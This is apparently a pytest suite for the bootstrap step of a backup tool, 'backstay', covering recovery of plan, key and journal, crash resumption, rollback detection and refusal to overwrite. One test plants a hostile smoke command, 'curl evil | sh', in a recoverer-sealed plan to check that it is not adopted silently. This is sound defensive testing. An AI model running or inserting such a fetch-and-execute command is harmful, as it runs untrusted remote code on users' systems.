"""Laws of beginning on an empty machine: everything comes back, also in the second attempt; nothing is overwritten,
and who was left behind writes nothing."""

import json
import shutil
from collections.abc import Generator
from contextlib import contextmanager, suppress
from pathlib import Path
from typing import Any

import pytest

from backstay import durable
from backstay.adapters.journal import Overtaken
from backstay.app import bootstrapping, copying, keys, planning, protecting
from backstay.app.bootstrapping import Wanted, bootstrap, read_head
from backstay.app.home import Asked, Home
from backstay.cli import main
from backstay.errors import (
    AccessDenied,
    BackstayError,
    EpochTaken,
    JournalReadOnly,
    PlanMissing,
    TargetNotEmpty,
    UnknownName,
    Usage,
    VaultBehind,
    WrongKey,
)
from backstay.facts import spine_digest
from backstay.ports import Progress, unwatched
from backstay.vault.roles import Role
from fix_vault import Crash

PLAN = """\
backstay: 1
system: {name: shop, title: Shop}
objectives: {rto: 1h, rpo: 24h}
sites: {primary: {}}
vaults:
  local: {url: ./vault, keep: 30d}
  far: {url: ../far, keep: 30d}
components:
  papers: {files: ./papers, protect: {full: "02:00"}}
smoke:
  there: {run: [test, -e, papers]}
people: {me: {name: Me, email: me@example.com}}
declaration: {authority: {alone: [me]}}
"""


@contextmanager
def unseen(title: str) -> Generator[Progress]:
    del title
    yield unwatched


class Machine:
    """A folder that stands for a machine, and what was said on it."""

    def __init__(self, folder: Path) -> None:
        self.folder, self.said = folder, list[str]()
        folder.mkdir(exist_ok=True)

    def home(self) -> Home:
        return Home(Asked(), self.folder)

    def backup(self) -> None:
        home = self.home()
        came = protecting.backup(home, (), unseen)
        moved = copying.copy(home, list(home.plan.components.values()), copying.Wanted(), unseen)
        for error in (one.error for one in (*came, *moved) if one.error is not None):
            raise error
        home.seal()

    def bootstrap(self, vault: Path, key: Path, **more: Any) -> bootstrapping.Arrived:
        self.said.clear()
        return bootstrap(Wanted(str(vault), key, self.folder, **more), self.folder, self.said.append)

    def streams(self) -> dict[str, list[str]]:
        """The stored digests: what came back has to be the same to the last bit."""
        journal = self.home().journal
        return {name: [one.digest for one in journal.read(name)] for name in journal.streams()}


@pytest.fixture(scope="module")
def original(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A machine with a vault of its own and one elsewhere, made once."""
    root = tmp_path_factory.mktemp("original")
    machine = Machine(root / "old")
    (machine.folder / "backstay.yaml").write_text(PLAN)
    (machine.folder / "papers").mkdir()
    (machine.folder / "papers" / "letter").write_text("dear customer")
    list(planning.init(machine.home()))
    machine.backup()
    return root


@pytest.fixture
def old(original: Path, tmp_path: Path) -> Machine:
    shutil.copytree(original, tmp_path, dirs_exist_ok=True)
    return Machine(tmp_path / "old")


def begins_with(streams: dict[str, list[str]], before: dict[str, list[str]]) -> bool:
    return all(streams[name][: len(digests)] == digests for name, digests in before.items())


def test_an_empty_machine_has_plan_key_journal_and_points(old: Machine, tmp_path: Path) -> None:
    before = old.streams()
    shutil.rmtree(tmp_path / "old" / "vault")  # with the machine, its own vault is gone: the witness
    new = Machine(tmp_path / "new")
    arrived = new.bootstrap(tmp_path / "far", old.folder / "backstay.key")
    assert not arrived.codes
    assert (new.folder / "backstay.yaml").read_text() == PLAN
    for name in ("backstay.yaml", "backstay.key", ".backstay/journal.sqlite"):
        assert (new.folder / name).stat().st_mode & 0o077 == 0, name
    assert begins_with(new.streams(), before)
    assert [point.component for one in new.home().vaults.values() for point in one.points()] == ["papers"]
    assert "epoch 2 of the journal was taken in far" in " ".join(new.said)
    assert any("the vault local (./vault) cannot be opened here" in said for said in new.said)
    # It is a machine like any other from here on.
    shutil.copytree(old.folder / "papers", new.folder / "papers")
    list(planning.init(new.home()))
    new.backup()


@pytest.mark.parametrize(
    "verb", [["backup"], ["verify"], ["init"], ["smoke"], ["recover", "database-loss", "--by", "me"]]
)
def test_the_machine_that_comes_back_writes_nothing_anywhere(
    verb: list[str], old: Machine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    Machine(tmp_path / "new").bootstrap(tmp_path / "far", old.folder / "backstay.key")
    monkeypatch.chdir(old.folder)

    def everything() -> dict[str, bytes]:
        return {
            str(path): path.read_bytes()
            for root in (old.folder / "vault", tmp_path / "far")
            for path in root.rglob("*")
            if path.is_file()
        }

    before, facts = everything(), old.streams()
    with pytest.raises(SystemExit) as ended:
        main([*verb, "--json"])
    error = json.loads(capsys.readouterr().err.splitlines()[-1])
    assert (ended.value.code, error["code"]) == (51, 51)
    assert "epoch 2, taken by" in error["known"]
    assert (everything(), old.streams()) == (before, facts)
    for reading in (["points"], ["journal", "show"], ["journal", "verify"]):
        with suppress(SystemExit):
            main([*reading, "--json"])
        assert json.loads(capsys.readouterr().out)
    assert everything() == before


def test_stopped_anywhere_it_is_typed_again(old: Machine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Death at every step that leaves something behind."""
    steps: list[tuple[Any, str, bool]] = [
        (bootstrapping, "write_durably", True),
        (bootstrapping.journals, "lay_history", False),
        (bootstrapping.journals, "lay_history", True),
        (bootstrapping.journals, "take_over", True),
        (bootstrapping, "_end_routines", True),
    ]
    for number, (module, name, after) in enumerate(steps, 1):
        new = Machine(tmp_path / f"new-{number}")
        real = getattr(module, name)

        def dying(*words: Any, real: Any = real, after: bool = after, **named: Any) -> Any:
            if after:
                real(*words, **named)
            raise Crash

        with monkeypatch.context() as patched:
            patched.setattr(module, name, dying)
            with pytest.raises(Crash):
                new.bootstrap(tmp_path / "far", old.folder / "backstay.key")
        arrived = new.bootstrap(tmp_path / "far", old.folder / "backstay.key")
        assert not arrived.codes, new.said
        assert begins_with(new.streams(), old.streams())
        assert arrived.home.journal.epoch == number + 1
        assert not [one for one in arrived.home.journal.verify([]) if one.damage]
        again = new.bootstrap(tmp_path / "far", old.folder / "backstay.key") if after else arrived
        assert again.home.journal.epoch == number + 1, "done twice is done once"


def test_a_vault_under_another_address_is_found_from_then_on(old: Machine, tmp_path: Path) -> None:
    (tmp_path / "usb").mkdir()
    (old.folder / "vault").rename(tmp_path / "usb" / "vault")
    (tmp_path / "far").rename(tmp_path / "gone")
    new = Machine(tmp_path / "new")
    new.bootstrap(tmp_path / "usb" / "vault", old.folder / "backstay.key")
    said = " ".join(new.said)
    assert f"the vault local is taken from {tmp_path}/usb/vault on this machine" in said
    assert "the plan says that it is in ./vault" in said
    home = new.home()
    assert {name: one.store.describe() for name, one in home.vaults.items()} == {"local": f"{tmp_path}/usb/vault"}
    assert home.plan.digest == old.home().plan.digest, "the plan is what it was"
    with pytest.raises(JournalReadOnly):
        (tmp_path / "usb" / "vault").rename(old.folder / "vault")
        old.backup()


def test_looking_takes_nothing_from_the_machine_that_lives(old: Machine, tmp_path: Path) -> None:
    new = Machine(tmp_path / "new")
    new.bootstrap(tmp_path / "far", old.folder / "backstay.key", look=True)
    assert begins_with(new.streams(), old.streams())
    assert isinstance(new.home().journal.standing, Overtaken)
    with pytest.raises(JournalReadOnly, match="may not write"):
        new.backup()
    old.backup()


def test_a_folder_that_everybody_may_write_to_is_refused(old: Machine, tmp_path: Path) -> None:
    new = Machine(tmp_path / "new")
    new.folder.chmod(0o1777)
    with pytest.raises(AccessDenied, match="every user"):
        new.bootstrap(tmp_path / "far", old.folder / "backstay.key")
    assert list(new.folder.iterdir()) == []


def test_a_file_that_waits_for_our_key_does_not_get_it(tmp_path: Path) -> None:
    waiting = tmp_path / ".backstay.key.tmp"
    waiting.write_text("")
    with waiting.open() as theirs:
        durable.write_durably(tmp_path / "backstay.key", b"secret")
        assert theirs.read() == ""
    assert (tmp_path / "backstay.key").read_bytes() == b"secret"


def test_what_is_there_is_never_overwritten(old: Machine, tmp_path: Path) -> None:
    for name in ("backstay.yaml", "backstay.key"):
        new = Machine(tmp_path / f"new-{name}")
        (new.folder / name).write_text("mine")
        with pytest.raises(TargetNotEmpty, match=name):
            new.bootstrap(tmp_path / "far", old.folder / "backstay.key")
        assert (new.folder / name).read_text() == "mine"
    assert old.home().journal.epoch == 1
    old.backup()


def test_a_head_on_paper_shows_a_vault_that_was_set_back(old: Machine, tmp_path: Path) -> None:
    shutil.copytree(tmp_path / "far", tmp_path / "earlier")
    old.backup()
    far = old.home().vaults["far"]  # pyright: ignore[reportArgumentType]
    number = max(int(name.rpartition("/")[2]) for name in far.notes("spine/"))
    spine = bootstrapping._spine(far, "1", number)  # pyright: ignore[reportPrivateUsage]
    assert spine is not None
    head = f"1/{number}:{spine_digest(spine)[7:23]}"
    new = Machine(tmp_path / "new")
    for wrong in (head[:-1] + ("0" if head[-1] != "0" else "1"), f"1/{number + 1}:{'0' * 16}"):
        with pytest.raises(VaultBehind):
            new.bootstrap(tmp_path / "far", old.folder / "backstay.key", head=wrong)
    with pytest.raises(VaultBehind, match="as it is remembered"):
        new.bootstrap(tmp_path / "earlier", old.folder / "backstay.key", head=head)
    assert list(new.folder.iterdir()) == [], "nothing was written"
    new.bootstrap(tmp_path / "far", old.folder / "backstay.key", head=head)
    assert any("as new as the head" in said for said in new.said)


@pytest.mark.parametrize("text", ["", "1/2", "1/2:abc", "x/2:" + "0" * 16, "1/2:" + "g" * 16])
def test_a_head_that_is_none_is_a_mistake_in_typing(text: str) -> None:
    with pytest.raises(Usage):
        read_head(text)


def test_another_revision_of_the_plan_can_be_chosen(old: Machine, tmp_path: Path) -> None:
    first = old.home().plan.digest
    (old.folder / "backstay.yaml").write_text(PLAN + "# a remark\n")
    old.backup()
    newest = old.home().plan.digest
    new, other = Machine(tmp_path / "new"), Machine(tmp_path / "other")
    arrived = new.bootstrap(tmp_path / "far", old.folder / "backstay.key", look=True)
    assert arrived.home.plan.digest == newest
    assert [one.digest for one in arrived.revisions] == [first, newest]
    chosen = other.bootstrap(tmp_path / "far", old.folder / "backstay.key", look=True, plan=first[7:15])
    assert chosen.home.plan.digest == first
    with pytest.raises(UnknownName):
        Machine(tmp_path / "third").bootstrap(tmp_path / "far", old.folder / "backstay.key", plan="0000")


def test_a_plan_that_a_recoverer_sealed_is_taken_only_by_name(old: Machine, tmp_path: Path) -> None:
    """Who takes a plan runs its commands, and shows the secrets of it to the addresses in it."""
    ours, owner = old.home().plan.digest, old.folder / "backstay.key"
    root = next(iter(old.home().vaults.values())).opened.root.hex()
    handed = keys.new_file(tmp_path / "ann.key", "ann", Role.RECOVERER, (root,))
    list(keys.admit(old.home(), handed, Role.RECOVERER))
    ann = Machine(tmp_path / "ann")
    ann.bootstrap(tmp_path / "far", tmp_path / "ann.key")
    (ann.folder / "backstay.yaml").write_text(PLAN.replace("[test, -e, papers]", "[sh, -c, 'curl evil | sh']"))
    ann.home().adopt("me")
    ann.home().seal()
    hers = ann.home().plan.digest
    new = Machine(tmp_path / "new")
    arrived = new.bootstrap(tmp_path / "far", owner, look=True)
    assert arrived.home.plan.digest == ours
    assert any(f"--plan {hers[7:23]}" in said for said in new.said)
    named = Machine(tmp_path / "named").bootstrap(tmp_path / "far", owner, look=True, plan=hers[7:23])
    assert named.home.plan.digest == hers
    again = Machine(tmp_path / "again").bootstrap(tmp_path / "far", tmp_path / "ann.key", look=True)
    assert again.home.plan.digest == hers, "she knows what she sealed"
    (tmp_path / "far" / "notes" / "plan" / hers[7:]).write_bytes(b"gone")
    lost = Machine(tmp_path / "lost").bootstrap(tmp_path / "far", owner, look=True)
    assert lost.home.plan.digest == ours


def test_a_spoilt_note_of_the_plan_is_made_good_by_the_journal(old: Machine, tmp_path: Path) -> None:
    for note in (tmp_path / "far" / "notes" / "plan").iterdir():
        note.write_bytes(b"a stranger's")
    arrived = Machine(tmp_path / "new").bootstrap(tmp_path / "far", old.folder / "backstay.key")
    assert arrived.home.plan.digest == old.home().plan.digest


def test_two_at_once_on_two_machines_one_wins_and_the_other_says_so(
    old: Machine, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    one, two = Machine(tmp_path / "one"), Machine(tmp_path / "two")
    real = bootstrapping.journals.take_over

    def interrupted(*words: Any) -> Any:
        monkeypatch.setattr(bootstrapping.journals, "take_over", real)
        two.bootstrap(tmp_path / "far", old.folder / "backstay.key")
        return real(*words)

    monkeypatch.setattr(bootstrapping.journals, "take_over", interrupted)
    with pytest.raises(EpochTaken, match="at this moment") as caught:
        one.bootstrap(tmp_path / "far", old.folder / "backstay.key")
    assert "epoch 2, taken by" in caught.value.detail
    assert two.home().journal.epoch == 2
    with pytest.raises(EpochTaken):
        one.bootstrap(tmp_path / "far", old.folder / "backstay.key")
    with pytest.raises(JournalReadOnly):
        one.backup()


def test_without_a_journal_the_newest_point_says_which_plan(old: Machine, tmp_path: Path) -> None:
    for folder in ("facts", "spine", "journal"):
        shutil.rmtree(tmp_path / "far" / "notes" / folder)
    new = Machine(tmp_path / "new")
    arrived = new.bootstrap(tmp_path / "far", old.folder / "backstay.key")
    assert arrived.home.plan.digest == old.home().plan.digest
    assert arrived.facts == 0
    shutil.rmtree(tmp_path / "far" / "notes" / "plan")
    with pytest.raises(PlanMissing):
        Machine(tmp_path / "third").bootstrap(tmp_path / "far", old.folder / "backstay.key")


def test_a_key_that_only_reads_brings_everything_back_and_says_what_it_could_not_do(
    old: Machine, tmp_path: Path
) -> None:
    safe = tmp_path / "safe.key"
    identity = next(line for line in (old.folder / "backstay.key").read_text().splitlines() if line.startswith("AGE"))
    durable.write_durably(safe, identity.encode() + b"\n")
    new = Machine(tmp_path / "new")
    arrived = new.bootstrap(tmp_path / "far", safe)
    assert arrived.codes == [27]
    assert any("epoch is not verified" in said and "can read, but not write" in said for said in new.said)
    assert begins_with(new.streams(), old.streams())
    with pytest.raises(BackstayError):
        new.backup()


def test_a_tail_that_was_never_sealed_is_said_and_left_out(old: Machine, tmp_path: Path) -> None:
    keys = sorted((tmp_path / "far" / "notes" / "spine" / "1").iterdir(), key=lambda path: int(path.name))
    keys[-1].unlink()  # facts first, then the spine: it died between the two
    new = Machine(tmp_path / "new")
    arrived = new.bootstrap(tmp_path / "far", old.folder / "backstay.key")
    assert arrived.codes == [55]
    assert any("tail not verified" in said for said in new.said)
    assert begins_with(new.streams(), old.streams())


def test_a_damaged_segment_is_named_and_what_is_before_it_comes_back(old: Machine, tmp_path: Path) -> None:
    (folder,) = [path for path in (tmp_path / "far" / "notes" / "facts").iterdir() if path.name != "side"]
    newest = max(folder.iterdir(), key=lambda path: int(path.name.split("-")[0]))
    newest.write_bytes(newest.read_bytes()[:-1] + b"x")
    new = Machine(tmp_path / "new")
    arrived = new.bootstrap(tmp_path / "far", old.folder / "backstay.key")
    assert arrived.codes[0] == 50
    assert any(newest.name in said for said in new.said)
    assert arrived.facts == int(newest.name.split("-")[0]) - 1
    assert arrived.home.journal.epoch == 2


def test_errors_of_a_wrong_address_or_key_are_those_of_the_vault(old: Machine, tmp_path: Path) -> None:
    new = Machine(tmp_path / "new")
    with pytest.raises(BackstayError, match="there is no vault"):
        new.bootstrap(tmp_path / "nowhere", old.folder / "backstay.key")
    with pytest.raises(WrongKey, match="there is no key"):
        new.bootstrap(tmp_path / "far", tmp_path / "no.key")
    assert list(new.folder.iterdir()) == []
